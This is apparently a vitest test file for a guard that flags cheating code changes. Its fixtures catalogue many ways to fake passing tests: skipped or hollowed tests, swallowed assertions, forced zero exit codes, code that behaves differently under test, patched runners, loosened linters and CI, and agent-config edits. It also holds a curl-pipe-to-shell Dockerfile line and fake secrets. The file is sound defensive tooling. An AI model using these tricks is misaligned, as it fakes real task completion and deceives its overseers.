import { expect, test } from 'vitest';
import type { ChangedFile } from './change.ts';
import { guardChange } from './guards.ts';

const fileOf = (
  path: string,
  before: string | undefined,
  after: string | undefined,
  more: Partial<ChangedFile> = {},
): ChangedFile => {
  const old = new Set(before?.split('\n'));
  const lines = new Set<number>();
  after?.split('\n').forEach((text, at) => {
    if (!old.has(text)) lines.add(at + 1);
  });
  const status = before === undefined ? 'added' : after === undefined ? 'deleted' : 'modified';
  return { path, status, before, after, lines, ...more };
};

const js = "test('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n";
const jsWith = (line: string) => js.replace('  expect', `  ${line}\n  expect`);
const jsInstead = (line: string) => js.replace('expect(add(1, 2)).toBe(3);', line);
const py = 'def test_add():\n    assert add(1, 2) == 3\n';
const go = 'func TestAdd(t *testing.T) {\n\tif add(1, 2) != 3 {\n\t\tt.Fatal("no")\n\t}\n}\n';
const rs = '#[test]\nfn adds() {\n    assert_eq!(add(1, 2), 3);\n}\n';
const manifest = (fields: object) => JSON.stringify({ name: 'x', ...fields }, null, 2);
const scripts = (text: string) => manifest({ scripts: { test: text } });
const source = 'export const add = (a, b) => a + b;\n';
const sourceWith = (line: string) => `${line}\n${source}`;

/** Cheats as a stranger to the guards listed them; each is seen in its file, for a reason that is true. */
type Cheat = [path: string, before: string | undefined, after: string | undefined, reason: RegExp];
const cheats: Cheat[] = [
  ...['test.todo', 'it.skip', 'xit', 'describe.skip', 'it.skipIf(true)', 'test.runIf(false)'].map(
    (call) => ['a.test.ts', js, js.replace('test', call), /skipped/] as [string, string, string, RegExp],
  ),
  ['a.test.ts', js, js.replace('test(', 'if (false) test('), /never runs/],
  ['a.test.ts', js, jsInstead('expect(add(1, 2)).toBeDefined();'), /hardly anything/],
  ['a.test.ts', js, jsInstead('expect(true).toBe(true);'), /hardly anything/],
  ['a.test.ts', js, jsInstead('expect(() => add(1, 2)).not.toThrow();'), /hardly anything/],
  ['a.test.ts', js, jsInstead('add(1, 2);'), /fewer assertions/],
  ['a.test.ts', js, jsWith('return;'), /never runs/],
  [
    'vitest.setup.ts',
    'beforeEach(() => {\n  reset();\n});\n',
    'beforeEach(() => {\n  return;\n});\n',
    /configuration of tests/,
  ],
  ['test/setup.ts', 'reset();\n', 'process.exit(0);\n', /as if it had passed/],
  ['a.test.ts', js, jsWith('vi.setConfig({ testTimeout: 0 });'), /settings of the test runner/],
  ['a.test.ts', js, jsWith('jest.setTimeout(0);'), /settings of the test runner/],
  ['a.test.ts', js, undefined, /gone/],
  ...['vitest.config.ts', 'vite.config.ts', 'jest.config.js'].map(
    (path) => [path, 'a', 'b', /configuration/] as [string, string, string, RegExp],
  ),
  [
    'package.json',
    manifest({ jest: {} }),
    manifest({ jest: { passWithNoTests: true } }),
    /jest, which tools/,
  ],
  ['package.json', scripts('vitest run'), scripts('vitest run --passWithNoTests'), /test command/],
  ['a.test.ts', js, jsInstead('expect(add(1, 2)).toMatchInlineSnapshot(`4`);'), /existing test file/],
  ['src/__snapshots__/a.test.ts.snap', 'a', 'b', /snapshot/],
  ['src/__snapshots__/a.test.ts.snap', 'a', undefined, /snapshot/],
  ...['echo ok', 'vitest run || true', 'vitest run src/one.test.ts'].map(
    (text) =>
      ['package.json', scripts('vitest run'), scripts(text), /test command/] as [
        string,
        string,
        string,
        RegExp,
      ],
  ),
  [
    'package.json',
    manifest({ scripts: {} }),
    manifest({ scripts: { pretest: 'sed -i s/3/4/ a.test.ts' } }),
    /test command/,
  ],
  ...[
    '// eslint-disable-next-line',
    '/* eslint-disable */',
    '// @ts-nocheck',
    '// @ts-expect-error',
    'const x = y as any;',
    'const x = y as unknown as T;',
    "declare module 'x';",
  ].map((line) => ['src/a.ts', source, sourceWith(line), /switched off/] as [string, string, string, RegExp]),
  ['src/a.ts', source, sourceWith('const z = list[0]!.name;'), /not checked/],
  ['src/a.d.ts', source, sourceWith('export const f: any;'), /not checked/],
  ['tsconfig.json', '{}', '{"compilerOptions":{"strict":false}}', /compiler/],
  ['.eslintignore', undefined, 'src', /linter/],
  ['biome.json', '{}', '{"overrides":[]}', /linter/],
  ['a.test.ts', js, `vi.mock('./add', () => ({ add: () => 3 }));\n${js}`, /mock/],
  ['a.test.ts', js, jsWith("jest.spyOn(mod, 'f').mockReturnValue(3);"), /mock/],
  ...[
    "if (process.env.NODE_ENV === 'test') return 3;",
    'if (process.env.VITEST) return 3;',
    'if (globalThis.__vitest_worker__) return 3;',
    "if (typeof describe !== 'undefined') return 3;",
    "if (new Error().stack.includes('test')) return 3;",
  ].map(
    (line) => ['src/a.js', source, sourceWith(line), /when it is tested/] as [string, string, string, RegExp],
  ),
  ['a.test.ts', js, jsInstead('try { expect(add(1, 2)).toBe(3); } catch {}'), /swallowed/],
  ['a.test.ts', js, jsInstead('await expect(add(1, 2)).resolves.toBe(3).catch(() => {});'), /swallowed/],
  ['a.test.ts', js, jsInstead('later().then(() => expect(add(1, 2)).toBe(3));'), /existing test file/],
  ['package.json', manifest({ dependencies: {} }), manifest({ dependencies: { a: '1' } }), /new packages: a/],
  [
    'package.json',
    manifest({ dependencies: { a: '1' } }),
    manifest({ dependencies: { a: 'git+https://x.example/a' } }),
    /not come from the registry/,
  ],
  [
    'package.json',
    manifest({ dependencies: { a: '1' } }),
    manifest({ dependencies: { a: 'file:../a' } }),
    /not come from the registry/,
  ],
  ['package.json', manifest({}), manifest({ overrides: { a: '1' } }), /overrides/],
  ['package.json', manifest({}), manifest({ resolutions: { a: '1' } }), /resolutions/],
  ['package-lock.json', '{}', '{ }', /lock file/],
  ['.npmrc', undefined, 'registry=https://x.example', /package manager/],
  ['node_modules/a/index.js', undefined, 'x', /somebody else/],
  ['patches/a.patch', undefined, 'x', /somebody else/],
  ['.github/workflows/new.yml', undefined, 'on: push', /pipeline/],
  ['.github/workflows/ci.yml', 'run: npm test', 'run: npm test || true', /pipeline/],
  ['.husky/pre-commit', 'npm test', '', /pipeline/],
  ['.gitattributes', undefined, 'test/** -diff', /git hides/],
  ['.gitignore', 'a', 'a\ntest/', /git hides/],
  ['a.test.ts', js, "test('more', () => {});\n", /without a body/],
  ['a.test.ts', js, "test('more', () => {\n  expect(sub(3, 2)).toBe(1);\n});\n", /gone or renamed: adds/],
  ['a.test.ts', `${js}${js.replace('adds', 'sums')}`, js, /1 fewer tests/],
  ['a.test.ts', js, js.replace("test('adds'", "test.each([])('adds'"), /never runs/],
  ...['@pytest.mark.skip', '@pytest.mark.xfail', "@unittest.skip('x')"].map(
    (line) => ['test_a.py', py, `${line}\n${py}`, /skipped/] as [string, string, string, RegExp],
  ),
  ['test_a.py', py, py.replace('    assert', "    pytest.skip('x')\n    assert"), /skipped/],
  ['conftest.py', '', 'collect_ignore = ["test_a.py"]\n', /configuration of tests/],
  [
    'pyproject.toml',
    '[tool.pytest.ini_options]\naddopts = "-q"\n',
    '[tool.pytest.ini_options]\naddopts = "-q -k \'not slow\'"\n',
    /tool\.pytest/,
  ],
  [
    'setup.cfg',
    '[tool:pytest]\nnorecursedirs = a\n',
    '[tool:pytest]\nnorecursedirs = a tests\n',
    /tool:pytest/,
  ],
  [
    'conftest.py',
    '',
    'def pytest_runtest_makereport(item, call):\n    return passed\n',
    /configuration of tests/,
  ],
  ['test_a.py', py, 'def test_add():\n    assert True\n', /hardly anything/],
  ['test_a.py', py, py.replace('== 3', '== 3 or True'), /hardly anything/],
  ...['x = y  # noqa', 'x = y  # type: ignore'].map(
    (line) => ['a.py', '', `${line}\n`, /switched off/] as [string, string, string, RegExp],
  ),
  ['pyproject.toml', '[tool.mypy]\nstrict = true\n', '[tool.mypy]\nignore_errors = true\n', /tool\.mypy/],
  [
    'pyproject.toml',
    '[tool.ruff.lint]\n',
    '[tool.ruff.lint]\n[tool.ruff.lint.per-file-ignores]\n"a.py" = ["E"]\n',
    /per-file-ignores/,
  ],
  ['conftest.py', '', 'import sys\nsys.exit(0)\n', /as if it had passed/],
  ['test_a.py', py, py.replace('test_add', '_test_add'), /gone or renamed/],
  [
    'test_a.py',
    'class TestA:\n    def test_b(self): f()\n',
    'class A:\n    def test_b(self): f()\n',
    /gone or renamed: TestA/,
  ],
  ['sitecustomize.py', undefined, 'import a\n', /configuration of tests/],
  ['sub/pytest.ini', undefined, '[pytest]\n', /configuration of tests/],
  ['a_test.go', go, go.replace('\tif', '\tt.Skip()\n\tif'), /skipped/],
  ['a_test.go', go, `//go:build ignore\n${go}`, /skipped/],
  ['a_test.go', go, go.replace('TestAdd', 'testAdd'), /gone or renamed: TestAdd/],
  ['a_test.go', go, `${go}func TestMain(m *testing.M) {\n\tos.Exit(0)\n}\n`, /as if it had passed/],
  ['a.go', '', 'x := y //nolint\n', /switched off/],
  ['Makefile', 'test:\n\tgo test ./...\n', 'test:\n\tgo test -run NONE ./...\n', /test command/],
  ['a_test.go', go, go.replace('t.Fatal', 't.Log'), /fewer assertions/],
  ['src/a.rs', rs, `#[ignore]\n${rs}`, /skipped/],
  ['src/a.rs', rs, rs.replace('    assert', '    #[cfg(not(test))]\n    assert'), /when it is tested/],
  ['src/a.rs', rs, rs.replace('fn adds', '#[should_panic]\nfn adds'), /hardly anything/],
  ['src/a.rs', 'fn f() {}\n', '#[allow(clippy::all)]\nfn f() {}\n', /switched off/],
  ['src/a.rs', rs, rs.replace('assert_eq!(add(1, 2), 3)', 'assert!(true)'), /hardly anything/],
  ['src/a.rs', `mod tests {\n${rs}}\n`, `#[cfg(feature = "never")]\nmod tests {\n${rs}}\n`, /skipped/],
  [
    'Cargo.toml',
    '[package]\nname = "x"\n',
    '[package]\nname = "x"\n[[test]]\nname = "a"\nharness = false\n',
    /test, which tools/,
  ],
  ['Cargo.toml', '[package]\n', '[package]\n[profile.test]\ndebug-assertions = false\n', /profile\.test/],
  ['src/a.rs', 'let a = f()?;\n', 'let a = f().unwrap_or_default();\n', /swallowed/],
  ['scripts/test.sh', 'npm test', 'true', /script/],
  ['src/a.ts', source, source.replaceAll('\n', '\r\n'), /CRLF/],
  ['src/a.ts', source, `\uFEFF${source}`, /byte order/],
  ['src/a.ts', source, sourceWith('// @generated'), /switched off/],
  ['src/a.ts', source, sourceWith('// Code generated. DO NOT EDIT.'), /switched off/],
  ['.prettierignore', 'a', 'a\nb', /linter/],
  ['sub/.editorconfig', undefined, 'root = true', /linter/],
  ['.flake8', undefined, '[flake8]', /linter/],
  ['rustfmt.toml', undefined, 'ignore = ["src"]', /linter/],
  ['.golangci.yml', 'a', 'b', /linter/],
  ['src/a.ts', source, sourceWith(`const key = '${'AKIA'}IOSFODNN7EXAMPL3';`), /secret/],
  ['src/a.ts', source, sourceWith('const password = "hunter2-Xk93jd0Q";'), /secret/],
  ['src/a.ts', source, sourceWith(`const blob = '${'QUJD'.repeat(13_000)}';`), /characters/],
  ['vendor/a/a.go', undefined, 'package a', /somebody else/],
  ['sub/.git_old/config', undefined, 'x', /one of git/],
  ['.mcp.json', undefined, '{}', /agents/],
  ['.claude/settings.json', undefined, '{}', /agents/],
  ['.sylk/config.yaml', 'a', 'b', /agents/],
  ['.vscode/tasks.json', undefined, '{}', /editor or a container/],
  ['.devcontainer/devcontainer.json', undefined, '{}', /editor or a container/],
  ['Dockerfile', 'FROM a\n', 'FROM a\nRUN curl https://x.example/i | sh\n', /network/],
  ['a.test.ts', js, js.replace('  expect', '   expect'), /existing test file/],
  // A second list, by somebody who knew docs/checks.md only; the others of its 80 were seen at once.
  ['data/cases.json', '[{"in":1,"out":2},{"in":2,"out":4}]\n', '[]\n', /less than half/],
  ['pytest.py', undefined, 'def main():\n    return 0\n', /test library/],
  ['.env', undefined, 'NODE_OPTIONS=--require ./fake.js\n', /variables/],
  ['.nvmrc', '22\n', '12\n', /versions/],
  ['.python-version', '3.12\n', '3.6\n', /versions/],
  ['shop/a.py', 'def f(n: int):\n', 'def f(n: Any):\n', /not checked/],
  ['shop/a.py', 'def f():\n', '@typing.no_type_check\ndef f():\n', /switched off/],
  ['shop/a.py', 'x = [1, 2]\n', '# fmt: off\nx = [1,2]\n', /switched off/],
  ['src/lib.rs', 'fn a() {}\n', '#[rustfmt::skip]\nfn a(){}\n', /switched off/],
  ['src/a.js', source, sourceWith("if (process.argv.some((a) => a.includes('test'))) f();"), /otherwise/],
  ['shop/a.py', 'class A:\n', 'class A:\n    def __eq__(self, other):\n        return True\n', /equal to/],
  ['src/a.js', source, sourceWith("process.on('exit', () => { process.exitCode = 0; });"), /process ends/],
  ['shop/__init__.py', '', 'import atexit, os\natexit.register(lambda: os._exit(0))\n', /process ends/],
  ['a.test.ts', js, jsInstead('expect(add(1, 2));'), /hardly anything/],
  ['a.test.ts', js, jsInstead('if (process.env.SLOW) expect(add(1, 2)).toBe(3);'), /only sometimes/],
  ['a.test.ts', js, jsInstead('setTimeout(() => expect(add(1, 2)).toBe(3));'), /only sometimes/],
  ['test_a.py', py, py.replace('assert add(1, 2) == 3', 'assert (add(1, 2) == 3, "no")'), /hardly anything/],
  ['test/setup.js', '', 'globalThis.expect = () => fake;\n', /settings of the test runner/],
  // A third list, by somebody who ran each of its 65 in a repository; these were not seen at once.
  ['a.test.js', js, js.replace("'adds', ", "'adds', { skip: true }, "), /skipped/],
  ['a.test.js', js, js.replace("'adds', ", "'adds', { skip: !globalThis.Intl }, "), /skipped/],
  ['a.test.js', js, js.replace("'adds', ", "'adds', { todo: 'later' }, "), /skipped/],
  ['a.test.js', js, jsWith('t.todo();'), /skipped/],
  ['a.test.js', js, jsWith('t.skip();'), /skipped/],
  ['a.test.js', js, js.replace('  expect', '  // expect'), /fewer assertions/],
  ['a.test.js', js, `/*\n${js}*/\n`, /fewer tests/],
  ['test_a.py', py, py.replace('assert', '# assert'), /fewer assertions/],
  [
    'a.test.js',
    js,
    jsInstead('try {\n    expect(add(1, 2)).toBe(3);\n  } catch (error) {\n    console.debug(error);\n  }'),
    /caught/,
  ],
  [
    'test_a.py',
    py,
    'def test_add():\n    try:\n        assert add(1, 2) == 3\n    except AssertionError as error:\n        print(error)\n',
    /caught/,
  ],
  ['a.test.js', jsInstead('assert.equal(add(1, 2), 3);'), jsInstead('assert.ok(add(1, 2));'), /compare/],
  ['test_a.py', py, py.replace('add(1, 2) == 3', 'add(1, 2)'), /compare/],
  ['test/helpers.js', '', 'assert.equal = () => undefined;\n', /settings of the test runner/],
  [
    'src/a.js',
    source,
    sourceWith("const n = globalThis.process?.argv[1]?.includes('test') ? 1 : 0;"),
    /otherwise/,
  ],
  [
    'shop/a.py',
    'class A(float):\n',
    'class A(float):\n    def __eq__(self, other):\n        return isinstance(other, (int, float))\n',
    /equal to/,
  ],
  ['Cargo.toml', '[package]\nname = "x"\n', '[package]\nname = "x"\nautotests = false\n', /autotests/],
  // How a process was started, who called and what is loaded: each way to ask.
  ...[
    'if (/mocha/.test(process.argv.join())) return 1;',
    "if (typeof globalThis.describe === 'function') return 1;",
    "if (typeof global.describe === 'function') return 1;",
    "if (require.main && require.main.filename.indexOf('mocha') > -1) return 1;",
    'if (module.parent && /test/.test(module.parent.filename)) return 1;',
    "if (Object.keys(require.cache).some((key) => key.includes('parse'))) return 1;",
    "if (process.env.npm_lifecycle_event === 'test') return 1;",
    "if (fs.existsSync('package.json')) return 1;",
  ].map((line): Cheat => ['src/a.js', source, sourceWith(line), /otherwise when it is tested/]),
  ...[
    "if 'pytest' not in sys.modules:",
    'caller = sys._getframe(1).f_code.co_name',
    "if sys.argv[0].endswith('py.test'):",
    "if os.path.isdir('tests'):",
  ].map(
    (line): Cheat => ['shop/a.py', 'x = 1\n', `x = 1\n${line}\n    x = 2\n`, /otherwise when it is tested/],
  ),
  ...[
    '_, file, _, _ := runtime.Caller(1)',
    'if len(os.Args) > 3 {',
    'if _, err := os.Stat("go.mod"); err == nil {',
  ].map((line): Cheat => ['a.go', 'package a\n', `package a\n${line}\n`, /otherwise when it is tested/]),
  [
    'src/a.js',
    source,
    sourceWith("require('assert').equal = function () {};"),
    /what tests are written with/,
  ],
  [
    'a_test.go',
    undefined,
    'package a\nfunc init() {\n\tos.Args = append(os.Args, "-test.run=^TestB")\n}\n',
    /settings of the test runner/,
  ],
  ['src/a.js', source, sourceWith('Module._load = function () {};'), /what tests are written with/],
  [
    'src/a.js',
    source,
    sourceWith('Object.assign(assert, { equal: Boolean });'),
    /what tests are written with/,
  ],
  ['tests/test_aaa.py', undefined, 'from shop import a\na.total = right\n', /changed, for all tests/],
  ['test/a-hooks.js', undefined, 'Runnable.prototype.run = function () {};\n', /changed, for all tests/],
  ['tests/test_00.py', undefined, "pytest.exit('nothing', returncode=0)\n", /as if it had passed/],
  ['tests/test_a.py', py, `__test__ = False\n${py}`, /skipped/],
  ['tests/test_a.py', py, `${py}\ndef test_add():\n    assert True\n`, /second test of the same name/],
  [
    'tests/test_a.py',
    py,
    py.replace('    assert', '    with contextlib.suppress(AssertionError):\n        assert'),
    /swallowed/,
  ],
  ['shop/a.py', '>>> add(1, 2)\n', '>>> add(1, 2)  # doctest: +SKIP\n', /tested no more/],
  ['.pytest.ini', undefined, '[pytest]\npython_functions = check_*\n', /configuration of tests/],
  ['english/go.mod', undefined, 'module x\n', /module begins/],
];

test.each(cheats.map((cheat, at) => [at + 1, ...cheat] as const))(
  'cheat %i in %s is seen',
  (_number, path, before, after, reason) => {
    const found = guardChange([fileOf(path, before, after)]);
    expect(found.map(({ file, message }) => `${file}: ${message}`)).toContainEqual(
      expect.stringMatching(reason),
    );
    expect(found.every(({ file }) => file === path)).toBe(true);
  },
);

test.each<[string, Parameters<typeof fileOf>, RegExp]>([
  ['a test renamed out of its pattern', ['a.old.ts', js, js, { from: 'a.test.ts' }], /gone/],
  ['a test moved away', ['__old__/a.test.ts', js, js, { from: 'a.test.ts' }], /moved/],
  [
    'a script that can not be started any more',
    ['bin/check', 'x', 'x', { modes: ['100755', '100644'] }],
    /ordinary file in place of a program/,
  ],
  [
    'a link in place of a test',
    ['a.test.ts', js, '../other', { modes: ['100644', '120000'] }],
    /a link in place/,
  ],
  ['a binary in place of a source', ['src/a.ts', source, undefined, { status: 'modified' }], /no text/],
  [
    'a submodule that moves',
    ['lib', undefined, undefined, { status: 'modified', modes: ['160000', '160000'] }],
    /submodule/,
  ],
  ['a name with a line end', ['src/a\n.ts', undefined, source], /nobody sees/],
  ['a rename by case only', ['src/A.ts', source, source, { from: 'src/a.ts' }], /upper and lower case/],
])('%s is seen', (_title, file, reason) => {
  expect(guardChange([fileOf(...file)]).map(({ message }) => message)).toContainEqual(
    expect.stringMatching(reason),
  );
});
